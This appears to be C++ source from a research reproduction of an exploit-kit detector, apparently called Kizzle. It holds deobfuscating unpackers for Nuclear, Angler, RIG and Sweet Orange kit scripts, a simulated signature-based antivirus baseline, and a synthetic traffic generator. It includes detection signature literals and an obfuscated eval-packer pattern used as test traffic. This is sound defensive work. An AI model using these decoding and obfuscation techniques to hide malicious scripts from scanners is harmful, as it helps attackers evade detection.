        if (!sq || *sq < 0) return std::nullopt;
        const auto pos = static_cast<std::size_t>(
            std::llround(std::sqrt(static_cast<double>(*sq))));
        auto it = strings.find(t[i].text);
        if (it == strings.end() || pos >= it->second.size()) {
          return std::nullopt;
        }
        key.push_back(it->second[pos]);
      }
    }
    if (key.empty()) return std::nullopt;

    // 2. The hex payload: longest even-length lower-hex string.
    std::string hex;
    for (const Token& tok : t) {
      if (tok.cls != TokenClass::String) continue;
      const std::string v = js_unescape(tok.text);
      if (v.size() >= 40 && v.size() % 2 == 0 &&
          all_in(v, "0123456789abcdef") && v.size() > hex.size()) {
        hex = v;
      }
    }
    if (hex.empty()) return std::nullopt;

    // 3. XOR-decode with the cycling key.
    std::string out;
    out.reserve(hex.size() / 2);
    for (std::size_t i = 0; i + 1 < hex.size(); i += 2) {
      const int hi = hex_val(hex[i]);
      const int lo = hex_val(hex[i + 1]);
      if (hi < 0 || lo < 0) return std::nullopt;
      const auto b = static_cast<unsigned char>((hi << 4) | lo);
      out.push_back(static_cast<char>(
          b ^ static_cast<unsigned char>(key[(i / 2) % key.size()])));
    }
    if (!looks_like_script(out)) return std::nullopt;
    return out;
  }

 private:
  static int hex_val(char c) {
    if (c >= '0' && c <= '9') return c - '0';
    if (c >= 'a' && c <= 'f') return c - 'a' + 10;
    return -1;
  }
};

}  // namespace

std::unique_ptr<Unpacker> make_rig_unpacker() {
  return std::make_unique<RigUnpacker>();
}
std::unique_ptr<Unpacker> make_nuclear_unpacker() {
  return std::make_unique<NuclearUnpacker>();
}
std::unique_ptr<Unpacker> make_angler_unpacker() {
  return std::make_unique<AnglerUnpacker>();
}
std::unique_ptr<Unpacker> make_sweet_orange_unpacker() {
  return std::make_unique<SweetOrangeUnpacker>();
}

const std::vector<std::unique_ptr<Unpacker>>& default_unpackers() {
  static const std::vector<std::unique_ptr<Unpacker>> kAll = [] {
    std::vector<std::unique_ptr<Unpacker>> v;
    v.push_back(make_rig_unpacker());
    v.push_back(make_nuclear_unpacker());
    v.push_back(make_angler_unpacker());
    v.push_back(make_sweet_orange_unpacker());
    return v;
  }();
  return kAll;
}

std::optional<UnpackResult> unpack_script(
    std::string_view source,
    std::span<const std::unique_ptr<Unpacker>> unpackers) {
  std::vector<Token> tokens;
  try {
    tokens = text::lex(source, text::LexOptions{.tolerant = true});
  } catch (const text::LexError&) {
    return std::nullopt;
  }
  for (const auto& unpacker : unpackers) {
    if (!unpacker->plausible(tokens)) continue;
    auto result = unpacker->try_unpack(tokens);
    if (result) return UnpackResult{std::move(*result), unpacker->name()};
  }
  return std::nullopt;
}

std::optional<UnpackResult> unpack_script(std::string_view source) {
  return unpack_script(source, default_unpackers());
}

namespace {

// Layer-state fingerprint for cycle detection: FNV-1a over the decoded
// text, paired with its length. Only fingerprints are retained (keeping
// every layer's text would hand the attacker the memory amplification the
// byte budget exists to deny); a hash+length collision falsely stopping a
// legitimate decode is astronomically unlikely, and stopping early is the
// safe direction.
struct LayerState {
  std::uint64_t hash;
  std::size_t size;
  bool operator==(const LayerState&) const = default;
};

LayerState fingerprint(std::string_view text) {
  std::uint64_t h = 1469598103934665603ull;
  for (const char c : text) {
    h ^= static_cast<unsigned char>(c);
    h *= 1099511628211ull;
  }
  return {h, text.size()};
}

}  // namespace

std::optional<UnpackResult> unpack_fixpoint(
    std::string_view source, const UnpackLimits& limits,
    std::span<const std::unique_ptr<Unpacker>> unpackers) {
  auto first = unpack_script(source, unpackers);
  if (!first) return std::nullopt;
  UnpackResult current = std::move(*first);
  std::size_t total_bytes = current.text.size();
  if (limits.max_total_bytes != 0 && total_bytes > limits.max_total_bytes) {
    // Even one layer can balloon (charcode arrays decode 3-4x smaller,
    // but an adversarial unpacker need not shrink): give the caller the
    // breach, not the bytes.
    current.text.clear();
    current.budget_exhausted = true;
    return current;
  }
  std::vector<LayerState> seen;
  seen.push_back(fingerprint(source));
  seen.push_back(fingerprint(current.text));
  for (int layer = 1; layer < limits.max_layers; ++layer) {
    auto next = unpack_script(current.text, unpackers);
    if (!next) break;
    if (limits.max_total_bytes != 0 &&
        next->text.size() > limits.max_total_bytes - total_bytes) {
      current.budget_exhausted = true;
      break;
    }
    total_bytes += next->text.size();
    const LayerState state = fingerprint(next->text);
    if (std::find(seen.begin(), seen.end(), state) != seen.end()) {
      current.cycle_detected = true;
      break;
    }
    seen.push_back(state);
    const int layers_done = current.layers + 1;
    current = std::move(*next);
    current.layers = layers_done;
  }
  return current;
}

std::optional<UnpackResult> unpack_fixpoint(std::string_view source,
                                            const UnpackLimits& limits) {
  return unpack_fixpoint(source, limits, default_unpackers());
}

std::optional<UnpackResult> unpack_fixpoint(std::string_view source,
                                            int max_layers) {
  UnpackLimits limits;
  limits.max_layers = max_layers;
  return unpack_fixpoint(source, limits, default_unpackers());
}

}  // namespace kizzle::unpack
