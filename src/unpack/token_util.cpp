#include "unpack/token_util.h"

#include <cstdlib>

#include "text/lexer.h"

namespace kizzle::unpack {

std::string js_unescape(std::string_view literal) {
  std::string_view body = literal;
  if (body.size() >= 2) {
    const char q = body.front();
    if ((q == '"' || q == '\'') && body.back() == q) {
      body = body.substr(1, body.size() - 2);
    }
  }
  std::string out;
  out.reserve(body.size());
  for (std::size_t i = 0; i < body.size(); ++i) {
    if (body[i] != '\\' || i + 1 >= body.size()) {
      out.push_back(body[i]);
      continue;
    }
    ++i;
    switch (body[i]) {
      case 'n': out.push_back('\n'); break;
      case 'r': out.push_back('\r'); break;
      case 't': out.push_back('\t'); break;
      case 'f': out.push_back('\f'); break;
      case 'v': out.push_back('\v'); break;
      case '0': out.push_back('\0'); break;
      default: out.push_back(body[i]);
    }
  }
  return out;
}

std::unordered_map<std::string, std::string> string_assignments(
    std::span<const text::Token> tokens) {
  std::unordered_map<std::string, std::string> out;
  for (std::size_t i = 0; i + 2 < tokens.size(); ++i) {
    if (tokens[i].cls != text::TokenClass::Identifier) continue;
    if (!is_punct(tokens, i + 1, "=")) continue;
    if (tokens[i + 2].cls != text::TokenClass::String) continue;
    out.emplace(tokens[i].text, js_unescape(tokens[i + 2].text));
  }
  return out;
}

std::unordered_map<std::string, long long> numeric_assignments(
    std::span<const text::Token> tokens) {
  std::unordered_map<std::string, long long> out;
  for (std::size_t i = 0; i + 2 < tokens.size(); ++i) {
    if (tokens[i].cls != text::TokenClass::Identifier) continue;
    if (!is_punct(tokens, i + 1, "=")) continue;
    if (tokens[i + 2].cls != text::TokenClass::Number) continue;
    const auto v = parse_number(tokens[i + 2]);
    if (v) out.emplace(tokens[i].text, *v);
  }
  return out;
}

bool is_punct(std::span<const text::Token> t, std::size_t i,
              std::string_view text) {
  return i < t.size() && t[i].cls == text::TokenClass::Punctuator &&
         t[i].text == text;
}

bool is_ident(std::span<const text::Token> t, std::size_t i,
              std::string_view text) {
  return i < t.size() && t[i].cls == text::TokenClass::Identifier &&
         t[i].text == text;
}

std::optional<long long> parse_number(const text::Token& t) {
  if (t.cls != text::TokenClass::Number) return std::nullopt;
  errno = 0;
  char* end = nullptr;
  const long long v = std::strtoll(t.text.c_str(), &end, 0);
  if (errno != 0 || end == t.text.c_str()) return std::nullopt;
  return v;
}

bool looks_like_script(std::string_view s) {
  if (s.size() < 64) return false;
  if (s.find("function") == std::string_view::npos &&
      s.find("var ") == std::string_view::npos) {
    return false;
  }
  try {
    const auto tokens = text::lex(s, text::LexOptions{.tolerant = true});
    return tokens.size() >= 32;
  } catch (const text::LexError&) {
    return false;
  }
}

}  // namespace kizzle::unpack
