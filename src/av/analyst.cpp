#include "av/analyst.h"

namespace kizzle::av {

namespace {

std::string short_tag(kitgen::KitFamily f) {
  switch (f) {
    case kitgen::KitFamily::Nuclear: return "NEK";
    case kitgen::KitFamily::SweetOrange: return "SWO";
    case kitgen::KitFamily::Angler: return "ANG";
    case kitgen::KitFamily::Rig: return "RIG";
  }
  return "UNK";
}

}  // namespace

Analyst::Analyst(AnalystConfig cfg) : cfg_(cfg) {}

int Analyst::lag_for(kitgen::KitFamily f) const {
  switch (f) {
    case kitgen::KitFamily::Nuclear: return cfg_.lag_nuclear;
    case kitgen::KitFamily::Angler: return cfg_.lag_angler;
    case kitgen::KitFamily::Rig: return cfg_.lag_rig;
    case kitgen::KitFamily::SweetOrange: return cfg_.lag_sweet_orange;
  }
  return 5;
}

std::string Analyst::next_name(kitgen::KitFamily f) {
  return std::string(short_tag(f)) + ".sig" +
         std::to_string(++counters_[kitgen::family_index(f)]);
}

void Analyst::install_initial_signatures(
    const kitgen::StreamSimulator& stream, ManualAvEngine& engine) {
  const int day0 = stream.config().start_day - 1;
  // Per-version feature signatures for the versions live at month start.
  for (std::size_t i = 0; i < kitgen::kNumFamilies; ++i) {
    const auto family = kitgen::family_from_index(i);
    engine.schedule(AvRelease{day0, family, next_name(family),
                              stream.kit(family).analyst_feature()});
  }
  // The Angler Java-marker signature (Fig 6: the string "on which the AV
  // signature matched" until 8/13 moved it into the packed body).
  engine.schedule(AvRelease{day0, kitgen::KitFamily::Angler,
                            next_name(kitgen::KitFamily::Angler),
                            "jvmqx1r7a"});
  // Structural literals for RIG and Sweet Orange: fragments of the decode
  // loops that survive delimiter churn (they sit outside the randomized
  // fields). These keep AV's FN small for both kits (Fig 14).
  engine.schedule(AvRelease{day0, kitgen::KitFamily::Rig,
                            next_name(kitgen::KitFamily::Rig),
                            ".text+=String.fromCharCode("});
  engine.schedule(AvRelease{day0, kitgen::KitFamily::SweetOrange,
                            next_name(kitgen::KitFamily::SweetOrange),
                            "String.fromCharCode(parseInt("});
}

void Analyst::observe_day(int day, const kitgen::StreamSimulator& stream,
                          ManualAvEngine& engine) {
  for (const kitgen::KitEvent& e : kitgen::august_schedule()) {
    if (e.day != day) continue;
    if (e.kind != kitgen::EventKind::PackerChange &&
        e.kind != kitgen::EventKind::SemanticChange) {
      continue;
    }
    // The analyst captures the new version's distinctive feature today and
    // ships a signature after the reaction lag.
    engine.schedule(AvRelease{day + lag_for(e.family), e.family,
                              next_name(e.family),
                              stream.kit(e.family).analyst_feature()});
  }
}

}  // namespace kizzle::av
