// The analyst model: who writes the manual signatures, on what, and when.
//
// At the start of the campaign the analyst has signatures for the
// currently-circulating kit versions (plus, for Angler, the clear-HTML
// Java marker string — the signature whose evasion creates the Fig 6
// window). Whenever a kit ships a packer change, the analyst studies the
// new version and releases a new signature `lag` days later. Two kits
// (RIG, Sweet Orange) additionally get one *structural* literal that
// survives version churn — which is why their AV false-negative counts in
// Fig 14 are small even though their packers change often.
#pragma once

#include "av/av_engine.h"
#include "kitgen/stream.h"

namespace kizzle::av {

struct AnalystConfig {
  int lag_nuclear = 5;
  int lag_angler = 6;   // 8/13 change -> 8/19 release reproduces Fig 6
  int lag_rig = 4;
  int lag_sweet_orange = 5;
};

class Analyst {
 public:
  explicit Analyst(AnalystConfig cfg = {});

  // Installs the start-of-month signature set, reading the kits' current
  // features from the simulator.
  void install_initial_signatures(const kitgen::StreamSimulator& stream,
                                  ManualAvEngine& engine);

  // Call once per simulated day *after* the stream generators advanced:
  // reacts to the day's scheduled kit events by scheduling releases at
  // day + lag with the new version's feature literal.
  void observe_day(int day, const kitgen::StreamSimulator& stream,
                   ManualAvEngine& engine);

 private:
  int lag_for(kitgen::KitFamily f) const;
  std::string next_name(kitgen::KitFamily f);

  AnalystConfig cfg_;
  int counters_[kitgen::kNumFamilies] = {0, 0, 0, 0};
};

}  // namespace kizzle::av
