// The simulated commercial AV baseline.
//
// The paper compares Kizzle against an anonymized commercial AV engine
// whose signatures are written by human analysts and released with a lag
// of days after each kit change (Fig 12's red call-outs; Fig 6's window of
// vulnerability). We model that engine as a set of literal substring
// signatures over AV-normalized text, each with a release day. Literal
// matching is what makes the baseline brittle against the kits' per-sample
// feature randomization — the asymmetry Kizzle's structural signatures
// remove.
//
// Like every other matching surface, the release set is deployed through
// the unified scan engine (engine/engine.h): each literal compiles into an
// engine::Database entry, so match() is one Aho–Corasick prefilter pass
// plus candidate confirmation, with the release-day gate applied as the
// engine's pre-confirmation candidate filter. The database is rebuilt
// lazily on first match() after a schedule() (so bulk loading stays
// linear); concurrent match() calls are safe once the release set is
// loaded (per-worker scratches come from a pool).
#pragma once

#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "engine/engine.h"
#include "kitgen/kit.h"

namespace kizzle::av {

struct AvRelease {
  int day = 0;                 // first day the signature is deployed
  kitgen::KitFamily family;
  std::string name;            // e.g. "NEK.sig3"
  std::string literal;         // substring of AV-normalized text
};

class ManualAvEngine {
 public:
  void schedule(AvRelease release);

  // First deployed signature matching `normalized` as of `day`.
  std::optional<AvRelease> match(int day,
                                 std::string_view normalized) const;

  bool detects(int day, std::string_view normalized) const {
    return match(day, normalized).has_value();
  }

  const std::vector<AvRelease>& releases() const { return releases_; }

  // Releases for one family, sorted by day (Fig 12 annotations).
  std::vector<AvRelease> releases_for(kitgen::KitFamily family) const;

 private:
  std::vector<AvRelease> releases_;
  engine::LazyDatabase database_;
  mutable engine::ScratchPool scratches_;
};

}  // namespace kizzle::av
