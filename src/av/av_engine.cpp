#include "av/av_engine.h"

#include <algorithm>
#include <stdexcept>

namespace kizzle::av {

void ManualAvEngine::schedule(AvRelease release) {
  if (release.literal.empty()) {
    throw std::invalid_argument("ManualAvEngine: empty signature literal");
  }
  releases_.push_back(std::move(release));
}

std::optional<AvRelease> ManualAvEngine::match(
    int day, std::string_view normalized) const {
  for (const AvRelease& r : releases_) {
    if (r.day > day) continue;
    if (normalized.find(r.literal) != std::string_view::npos) return r;
  }
  return std::nullopt;
}

std::vector<AvRelease> ManualAvEngine::releases_for(
    kitgen::KitFamily family) const {
  std::vector<AvRelease> out;
  for (const AvRelease& r : releases_) {
    if (r.family == family) out.push_back(r);
  }
  std::sort(out.begin(), out.end(),
            [](const AvRelease& a, const AvRelease& b) { return a.day < b.day; });
  return out;
}

}  // namespace kizzle::av
