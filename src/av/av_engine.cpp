#include "av/av_engine.h"

#include <algorithm>
#include <stdexcept>

namespace kizzle::av {

void ManualAvEngine::schedule(AvRelease release) {
  if (release.literal.empty()) {
    throw std::invalid_argument("ManualAvEngine: empty signature literal");
  }
  releases_.push_back(std::move(release));
  database_.invalidate();
}

std::optional<AvRelease> ManualAvEngine::match(
    int day, std::string_view normalized) const {
  // Each literal release compiles to an escaped-literal pattern in the
  // shared engine database. Events arrive in ascending insertion order,
  // matching the brute-force first-match semantics; the release-day gate
  // runs as the pre-confirmation candidate filter, so signatures not yet
  // deployed on `day` never even reach confirmation.
  if (releases_.empty()) return std::nullopt;
  const engine::Database& db = database_.ensure([this] {
    std::vector<engine::Database::Spec> specs;
    specs.reserve(releases_.size());
    for (const AvRelease& r : releases_) {
      specs.push_back(engine::Database::Spec{
          r.name, std::string(kitgen::family_name(r.family)),
          match::Pattern::escape(r.literal)});
    }
    return engine::Database::compile(specs);
  });
  auto scratch = scratches_.acquire();
  std::optional<std::size_t> hit;
  engine::scan(
      db, normalized, *scratch,
      [this, day](std::size_t i) { return releases_[i].day <= day; },
      [&hit](const engine::MatchEvent& event) {
        hit = event.sig_index;
        return engine::ScanDecision::Stop;
      });
  if (!hit) return std::nullopt;
  return releases_[*hit];
}

std::vector<AvRelease> ManualAvEngine::releases_for(
    kitgen::KitFamily family) const {
  std::vector<AvRelease> out;
  for (const AvRelease& r : releases_) {
    if (r.family == family) out.push_back(r);
  }
  std::sort(out.begin(), out.end(),
            [](const AvRelease& a, const AvRelease& b) { return a.day < b.day; });
  return out;
}

}  // namespace kizzle::av
