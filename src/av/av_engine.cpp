#include "av/av_engine.h"

#include <algorithm>
#include <stdexcept>

namespace kizzle::av {

void ManualAvEngine::schedule(AvRelease release) {
  if (release.literal.empty()) {
    throw std::invalid_argument("ManualAvEngine: empty signature literal");
  }
  releases_.push_back(std::move(release));
  prefilter_.invalidate();
}

std::optional<AvRelease> ManualAvEngine::match(
    int day, std::string_view normalized) const {
  // One automaton pass finds every literal present; candidates come back
  // in ascending insertion order, matching the brute-force first-match
  // semantics. Only the release-day gate remains per candidate.
  if (releases_.empty()) return std::nullopt;
  const match::LiteralPrefilter& pf =
      prefilter_.ensure([this](match::LiteralPrefilter& p) {
        for (std::size_t i = 0; i < releases_.size(); ++i) {
          p.add(i, releases_[i].literal);
        }
      });
  thread_local std::vector<std::size_t> candidates;
  pf.candidates_into(normalized, candidates);
  for (const std::size_t i : candidates) {
    if (releases_[i].day > day) continue;
    return releases_[i];
  }
  return std::nullopt;
}

std::vector<AvRelease> ManualAvEngine::releases_for(
    kitgen::KitFamily family) const {
  std::vector<AvRelease> out;
  for (const AvRelease& r : releases_) {
    if (r.family == family) out.push_back(r);
  }
  std::sort(out.begin(), out.end(),
            [](const AvRelease& a, const AvRelease& b) { return a.day < b.day; });
  return out;
}

}  // namespace kizzle::av
