// Kit evolution timelines.
//
// §II.B of the paper tracks the Nuclear exploit kit over June-August 2014
// (Fig 5): 13 superficial packer changes (obfuscated-eval variations), one
// semantic packer change, and two payload changes (AV detection added
// 7/29, CVE 2013-0074 appended 8/27). This module encodes that observed
// timeline verbatim — it drives both the Fig 5 reproduction and the
// August simulation — plus the August event schedules for the other three
// kits, chosen to match the paper's narrative (Angler's 8/13 signature-
// evading change, RIG's frequent delimiter churn, Sweet Orange's moderate
// drift).
//
// Day numbering: day 0 == 2014-06-01. August 1st is day 61; August 31st is
// day 91. Helpers convert between day numbers and "M/D" labels.
#pragma once

#include <string>
#include <vector>

#include "kitgen/kit.h"

namespace kizzle::kitgen {

// 2014-06-01 == day 0.
constexpr int kJune1 = 0;
constexpr int kAug1 = 61;
constexpr int kAug31 = 91;

// "8/13" -> day number; accepts months 6..8 of 2014.
int day_from_date(int month, int day_of_month);
std::string date_label(int day);  // day -> "8/13"

enum class EventKind {
  PackerChange,    // superficial change to the outer packer
  SemanticChange,  // packer rewritten (semantics changed)
  PayloadAppend,   // new CVE appended to the payload
  PayloadAvCheck,  // AV-detection module added to the payload
};

struct KitEvent {
  int day;
  KitFamily family;
  EventKind kind;
  std::string label;  // e.g. the new obfuscated-eval form, or the CVE id
};

// The Nuclear timeline of Fig 5 (June 1 - August 31, 2014), exactly as
// published.
const std::vector<KitEvent>& nuclear_fig5_timeline();

// August 2014 event schedule for all four kits (includes the August tail
// of the Nuclear Fig 5 timeline). Sorted by day.
const std::vector<KitEvent>& august_schedule();

std::string_view event_kind_name(EventKind kind);

}  // namespace kizzle::kitgen
