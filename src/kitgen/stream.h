// The daily grayware stream (paper §IV experimental setup).
//
// The paper's telemetry produced 80,000-500,000 samples per day for August
// 2014. We reproduce the same *stream structure* at a configurable scale
// (default ~2,500-4,500 samples/day; set volume_scale to trade fidelity
// against run time): mostly-benign traffic with weekday/weekend swings, a
// few percent exploit-kit landing pages with the documented per-family
// volume ordering (Angler > Sweet Orange > Nuclear > RIG, Fig 14), and a
// small corruption rate (truncated captures).
//
// Everything is deterministic from StreamConfig::seed.
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "kitgen/benign.h"
#include "kitgen/families.h"
#include "kitgen/kit.h"
#include "kitgen/timeline.h"
#include "support/rng.h"

namespace kizzle::kitgen {

enum class Truth : std::uint8_t {
  Benign,
  Nuclear,
  SweetOrange,
  Angler,
  Rig,
};

Truth truth_of(KitFamily f);
std::string_view truth_name(Truth t);

struct Sample {
  std::string id;    // "2014-08-13/00042"
  int day = 0;       // timeline day number
  Truth truth = Truth::Benign;
  bool corrupted = false;  // truncated capture
  std::string html;  // the full document
};

struct DailyBatch {
  int day = 0;
  std::vector<Sample> samples;
  std::size_t benign_count = 0;
  std::size_t malicious_count = 0;
};

struct StreamConfig {
  std::uint64_t seed = 20140801;
  int start_day = kAug1;
  int end_day = kAug31;
  double volume_scale = 1.0;
  // Mean malicious samples per (weekday) day, per family. Defaults keep
  // the paper's Fig 14 volume ordering at simulation scale.
  double mean_nuclear = 20.0;
  double mean_sweet_orange = 30.0;
  double mean_angler = 60.0;
  double mean_rig = 6.0;
  // Benign family pool and per-day family activity.
  std::size_t benign_pool = 1500;
  std::size_t min_families_per_day = 260;
  std::size_t extra_families_per_day = 160;
  double corruption_p = 0.004;  // truncated malicious captures
};

class StreamSimulator {
 public:
  explicit StreamSimulator(StreamConfig cfg = {});

  // Generates one day's batch; must be called with ascending days within
  // [start_day, end_day].
  DailyBatch generate_day(int day);

  // Unpacked payloads of all four kits as of the simulation start — the
  // "set of existing unpacked malware samples" Kizzle is seeded with
  // (paper §III).
  const std::vector<std::pair<KitFamily, std::string>>& seed_corpus() const {
    return seeds_;
  }

  const KitGenerator& kit(KitFamily f) const;
  KitGenerator& kit(KitFamily f);
  const BenignCorpus& benign() const { return benign_; }
  const StreamConfig& config() const { return cfg_; }

 private:
  StreamConfig cfg_;
  Rng rng_;
  BenignCorpus benign_;
  std::vector<std::unique_ptr<KitGenerator>> kits_;
  std::vector<std::pair<KitFamily, std::string>> seeds_;
  int last_day_ = -1;
  std::size_t sample_counter_ = 0;
};

// True for the simulated weekend days of August 2014 (Aug 1 was a Friday).
bool is_weekend(int day);

}  // namespace kizzle::kitgen
