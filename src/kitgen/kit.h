// Exploit-kit metadata (paper Fig 2): the four kits under study and the
// CVEs each one targets, by plugin category, as of September 2014.
//
// The "exploit" payloads generated from this metadata are inert stand-ins
// that reproduce only the *syntactic shape* of kit components; nothing in
// this repository contains functional exploit code.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace kizzle::kitgen {

enum class KitFamily { Nuclear, SweetOrange, Angler, Rig };

constexpr std::size_t kNumFamilies = 4;

std::string_view family_name(KitFamily f);
KitFamily family_from_index(std::size_t i);
std::size_t family_index(KitFamily f);

enum class PluginTarget {
  Flash,
  Silverlight,
  Java,
  AdobeReader,
  InternetExplorer,
};

std::string_view plugin_name(PluginTarget t);

struct CveEntry {
  PluginTarget target;
  std::string cve;  // e.g. "2014-0515"; "Unknown" when version checks were
                    // absent (see Fig 2 footnote)
};

struct KitInfo {
  KitFamily family;
  std::vector<CveEntry> cves;  // as of September 2014 (Fig 2)
  bool av_check;               // "AV check" column of Fig 2
};

// The Fig 2 table contents.
const std::vector<KitInfo>& kit_catalog();
const KitInfo& kit_info(KitFamily f);

}  // namespace kizzle::kitgen
