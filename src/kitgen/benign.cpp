#include "kitgen/benign.h"

#include "kitgen/families.h"
#include "kitgen/payload.h"
#include "support/hash.h"
#include "support/strings.h"

namespace kizzle::kitgen {

namespace {

// ------------------------- benign JS grammar -------------------------
//
// Each construct template is instantiated with deterministic identifiers
// and constants drawn from the family's Rng. The output is plausible
// "site code": utilities, config objects, DOM glue, tracking calls.

std::string pick_ident(Rng& rng) {
  static const std::vector<std::string> kStems = {
      "init",   "load",   "track",  "render", "update", "bind",  "show",
      "hide",   "format", "parse",  "cache",  "queue",  "sync",  "emit",
      "toggle", "config", "widget", "panel",  "menu",   "slider"};
  std::string s = kStems[rng.index(kStems.size())];
  s += rng.identifier(2, 5);
  return s;
}

std::string construct(Rng& rng) {
  const std::size_t kind = rng.index(9);
  const std::string a = pick_ident(rng);
  const std::string b = pick_ident(rng);
  const std::string c = pick_ident(rng);
  const std::string n1 = std::to_string(rng.uniform(2, 64));
  const std::string n2 = std::to_string(rng.uniform(100, 4000));
  switch (kind) {
    case 0:
      return "function " + a + "(e){var t=e||window.event;var s=t.target||"
             "t.srcElement;if(s&&s.className){s.className=s.className."
             "replace(\"active\",\"\")}return false}\n";
    case 1:
      return "var " + a + "={delay:" + n2 + ",retries:" + n1 +
             ",endpoint:\"/api/v2/" + b + "\",enabled:true,debug:false};\n";
    case 2:
      return "function " + a + "(n){var r=[];for(var i=0;i<n;i++){r.push(i*" +
             n1 + ")}return r.join(\",\")}\n";
    case 3:
      return "function " + a + "(){var d=document.getElementById(\"" + b +
             "\");if(d){d.style.display=\"block\";d.setAttribute(\"data-" +
             c + "\",\"" + n2 + "\")}}\n";
    case 4:
      return "var " + a + "=function(u){var img=new Image(1,1);img.src=u+"
             "\"?t=\"+(new Date().getTime());return img};\n";
    case 5:
      return "function " + a + "(s){return s.replace(/^\\s+|\\s+$/g,\"\")"
             ".toLowerCase().split(\" \").slice(0," + n1 + ").join(\"-\")}\n";
    case 6:
      return "if(typeof window." + a + "==\"undefined\"){window." + a +
             "={version:\"" + n1 + "." + std::to_string(rng.uniform(0, 9)) +
             "\",queue:[],push:function(x){this.queue.push(x)}}}\n";
    case 7:
      // The single most common JavaScript idiom on the 2014 web — and the
      // reason degenerate (too short / too generic) structural signatures
      // are dangerous: see bench_adversarial.
      return "function " + a + "(list){var out=[];for(var i=0;i<list."
             "length-1;i++){out.push(list[i]*" + n1 +
             ")}return out.join(\"|\")}\n";
    default:
      return "function " + a + "(cb){if(document.addEventListener){document."
             "addEventListener(\"DOMContentLoaded\",cb,false)}else{window."
             "attachEvent(\"onload\",cb)}}\n" + a + "(function(){if(window." +
             b + "){window." + b + ".queue=[]}});\n";
  }
}

}  // namespace

BenignCorpus::BenignCorpus(std::uint64_t seed, std::size_t pool_size)
    : seed_(seed), pool_size_(pool_size) {}

std::string BenignCorpus::family_script(std::size_t family_id, int day) const {
  // Version drifts slowly; the drift period and phase depend on the family
  // so version bumps are spread over the month.
  const std::uint64_t period = 14 + family_id % 10;
  const std::uint64_t version =
      (static_cast<std::uint64_t>(day) + family_id * 7) / period;
  Rng rng(hash_combine(seed_, hash_combine(family_id, version)));
  const std::size_t n = 3 + rng.index(6);
  std::string out;
  out.reserve(2048);
  for (std::size_t i = 0; i < n; ++i) out += construct(rng);
  return out;
}

std::string BenignCorpus::family_html(std::size_t family_id, int day,
                                      Rng& rng) const {
  return wrap_html("", family_script(family_id, day), rng);
}

std::string BenignCorpus::plugindetect_script(int day) const {
  // Library minor versions roll every ~12 days.
  return plugindetect_library_text(1 + day / 12);
}

std::string BenignCorpus::plugindetect_html(int day, Rng& rng) const {
  return wrap_html("", plugindetect_script(day), rng);
}

std::string BenignCorpus::adloader_script(int day) const {
  // The loader embeds the same public plugin-prober snippet RIG's payload
  // uses (identical identifiers — both copied it from the same source),
  // plus an ad-zone tail whose URL count varies day to day. The varying
  // tail makes the winnow containment against RIG's corpus wobble around
  // RIG's labeling threshold.
  Rng rng(hash_combine(seed_, 0xAD10ADull + static_cast<std::uint64_t>(day)));
  std::string out = compact_detector_text("rg");
  const std::size_t n_zones = 1 + rng.index(4);
  out += "var adzones=[";
  for (std::size_t i = 0; i < n_zones; ++i) {
    if (i) out.push_back(',');
    out += "\"" + make_landing_url(rng) + "\"";
  }
  out += "];\n";
  out += "function adshow(z){if(!PDVER.flash){return}var s=document."
         "createElement(\"script\");s.src=adzones[z%adzones.length]+"
         "\"?fmt=js\";document.body.appendChild(s)}\n";
  out += "adshow(" + std::to_string(rng.uniform(0, 7)) + ");\n";
  return out;
}

std::string BenignCorpus::adloader_html(int day, Rng& rng) const {
  return wrap_html("", adloader_script(day), rng);
}

std::string BenignCorpus::edpacker_html(Rng& rng) const {
  // A legitimate packer's output: escaped blob plus a bracket-eval
  // trigger. The "[ev+al](" idiom in AV-normalized text is what the
  // generic manual Angler signature also matches (AV false positives).
  std::string blob;
  const std::size_t n = 40 + rng.index(120);
  for (std::size_t i = 0; i < n; ++i) {
    blob += "%" + rng.string_over("0123456789abcdef", 2);
  }
  const std::string pvar = rng.identifier(3, 6);
  const std::string wvar = rng.identifier(3, 6);
  std::string script;
  script += "var " + pvar + "=\"" + blob + "\";\n";
  script += "var " + wvar + "=window;\n";
  script += wvar + "[\"ev\"+\"al\"](unescape(" + pvar + "));\n";
  return wrap_html("", script, rng);
}

}  // namespace kizzle::kitgen
