#include "kitgen/stream.h"

#include <algorithm>
#include <cstdio>
#include <stdexcept>

namespace kizzle::kitgen {

Truth truth_of(KitFamily f) {
  switch (f) {
    case KitFamily::Nuclear: return Truth::Nuclear;
    case KitFamily::SweetOrange: return Truth::SweetOrange;
    case KitFamily::Angler: return Truth::Angler;
    case KitFamily::Rig: return Truth::Rig;
  }
  return Truth::Benign;
}

std::string_view truth_name(Truth t) {
  switch (t) {
    case Truth::Benign: return "benign";
    case Truth::Nuclear: return "Nuclear";
    case Truth::SweetOrange: return "Sweet Orange";
    case Truth::Angler: return "Angler";
    case Truth::Rig: return "RIG";
  }
  return "?";
}

bool is_weekend(int day) {
  // 2014-08-01 (day kAug1) was a Friday; Saturday/Sunday are +1, +2 mod 7.
  const int dow = ((day - kAug1) % 7 + 7) % 7;
  return dow == 1 || dow == 2;
}

StreamSimulator::StreamSimulator(StreamConfig cfg)
    : cfg_(cfg), rng_(cfg.seed), benign_(rng_.fork().next(), cfg.benign_pool) {
  for (std::size_t i = 0; i < kNumFamilies; ++i) {
    const KitFamily f = family_from_index(i);
    kits_.push_back(make_kit_generator(f, rng_.fork().next()));
  }
  // Seed corpus: the kits' unpacked payloads as of the simulation start
  // (i.e. the late-July versions, before any August event fires).
  for (const auto& kit : kits_) {
    seeds_.emplace_back(kit->family(), kit->unpacked_payload());
  }
}

const KitGenerator& StreamSimulator::kit(KitFamily f) const {
  return *kits_[family_index(f)];
}

KitGenerator& StreamSimulator::kit(KitFamily f) {
  return *kits_[family_index(f)];
}

DailyBatch StreamSimulator::generate_day(int day) {
  if (day < cfg_.start_day || day > cfg_.end_day) {
    throw std::invalid_argument("generate_day: day outside configured range");
  }
  if (day <= last_day_) {
    throw std::invalid_argument("generate_day: days must ascend");
  }
  last_day_ = day;
  for (auto& kit : kits_) kit->begin_day(day);

  DailyBatch batch;
  batch.day = day;
  const double factor =
      cfg_.volume_scale * (is_weekend(day) ? 0.7 : 1.0);

  auto make_id = [&]() {
    char buf[32];
    std::snprintf(buf, sizeof(buf), "2014-08-%02d/%06zu", day - kAug1 + 1,
                  ++sample_counter_);
    return std::string(buf);
  };

